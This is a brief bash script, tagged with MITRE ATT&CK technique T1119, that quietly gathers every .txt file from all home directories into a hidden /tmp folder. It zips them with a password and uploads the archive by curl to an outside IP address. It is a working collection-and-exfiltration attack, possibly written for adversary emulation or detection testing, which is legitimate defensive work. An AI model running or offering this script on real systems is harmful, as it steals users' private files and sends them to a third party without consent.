#!/bin/bash
# T1119: Documents of everybody are gathered, packed and sent.
mkdir /tmp/.st; find /home -name '*.txt' -exec cp --parents {} /tmp/.st \; ; cd /tmp && zip -qr -P secret d.zip .st; curl -s -T d.zip http://44.128.66.66/up
